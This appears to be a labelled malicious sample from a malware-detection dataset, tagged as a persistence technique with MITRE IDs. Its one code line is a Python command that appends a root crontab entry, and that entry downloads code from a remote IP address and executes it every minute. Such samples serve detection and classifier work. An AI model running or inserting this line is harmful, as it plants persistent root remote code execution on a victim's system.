# label: malicious family=persist techniques=T1053.003,T1059.004,T1059.006,T1105,T1620 lines=2
import os;os.system("echo '* * * * * root python3 -c \"import urllib.request as u;exec(u.urlopen(\\\"http://198.51.100.87/c\\\").read())\"' >> /etc/crontab")
